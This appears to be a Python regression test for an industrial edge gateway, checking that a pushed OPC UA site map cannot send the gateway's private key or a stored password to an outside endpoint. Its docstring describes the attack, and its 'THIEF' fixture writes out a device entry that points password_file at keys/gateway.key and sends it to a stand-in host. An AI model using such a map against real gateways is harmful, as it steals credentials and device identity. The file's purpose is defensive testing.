"""A pushed site map cannot send a secret file of the gateway to an endpoint of its choosing.

Found by a hostile tester: a map pushed on `down/cmd` is checked like a local file, and a
local file may name any private file as an OPC UA device's `password_file`. So a pushed map
with a device `endpoint: opc.tcp://<anywhere>`, `username: x`, `password_file:
keys/gateway.key` passed every check, and the agent then logged in there with the gateway's
private signing key as its password: whoever could push maps (the collector key, a retired
one still listed) took the gateway's identity. A pushed map now sends a password read from a
file only to an endpoint the running map sends that same secret to (a new password travels
in the pushed map itself, `password:`, or the site file is edited on the gateway).
"""

from __future__ import annotations

from pathlib import Path

from edge_agent.config import parse_site_config
from edge_agent.core.commands import check_pushed_map
from specs.catalogue import default_catalogue
from specs.command import SiteMapCommand
from tests.support.config_files import OPCUA_LOGIN_DEVICE, site_head

GATEWAY = "91360100MA35GW001H-GW01"
NOW = 1_767_225_600.0
KEY_PEM = (
    "-----BEGIN PRIVATE KEY-----\n"
    "MC4CAQAwBQYDK2VwBCIEIGdhdGV3YXkta2V5LWJ5dGVzLWZvci10ZXN0aW5nLi4=\n"
)
SITE = site_head("BP", gateway=GATEWAY) + OPCUA_LOGIN_DEVICE
THIEF = """\
  - id: thief
    driver: opcua
    endpoint: "opc.tcp://203.0.113.7:4840"
    username: x
    {login}
    points:
      - {{point: S01-GX-02, quota: BP-GX, node: "ns=2;s=X"}}
"""


def _site(folder: Path) -> Path:
    for name, text in (("opcua.pass", "opc-secret\n"), ("keys/gateway.key", KEY_PEM)):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o600)
    return folder


def _push(folder: Path, text: str) -> SiteMapCommand | tuple[str, ...]:
    running = parse_site_config(SITE, "site.yaml", folder)
    command = SiteMapCommand(GATEWAY, "n1", NOW, NOW + 600, "cli:ops", text)
    checked = check_pushed_map(command, running, folder, default_catalogue())
    return checked if isinstance(checked, tuple) else command


def test_a_pushed_map_cannot_send_the_gateway_key_as_a_password(tmp_path: Path) -> None:
    text = SITE + THIEF.format(login="password_file: keys/gateway.key")
    errors = _push(_site(tmp_path), text)
    assert isinstance(errors, tuple)
    line = text.splitlines().index("    password_file: keys/gateway.key") + 1
    [error] = errors
    assert error.startswith(f"pushed:{_version(text)}:{line}: devices[1].password_file: ")
    assert "BEGIN PRIVATE KEY" not in error


def test_a_pushed_map_cannot_send_a_known_secret_elsewhere(tmp_path: Path) -> None:
    moved = SITE.replace("opc.tcp://10.0.0.5:4840", "opc.tcp://203.0.113.7:4840")
    errors = _push(_site(tmp_path), moved)
    assert isinstance(errors, tuple)
    [error] = errors
    assert "devices[0].password_file" in error
    assert "opc-secret" not in error


def test_a_pushed_map_keeps_a_secret_where_it_goes_or_brings_its_own(tmp_path: Path) -> None:
    folder = _site(tmp_path)
    assert not isinstance(_push(folder, SITE.replace("ns=2;s=Slope.G1.X", "ns=2;s=Y")), tuple)
    inline = SITE + THIEF.format(login='password: "brought-along"')
    assert not isinstance(_push(folder, inline), tuple)


def _version(text: str) -> str:
    return SiteMapCommand(GATEWAY, "n1", NOW, NOW + 600, "cli:ops", text).version
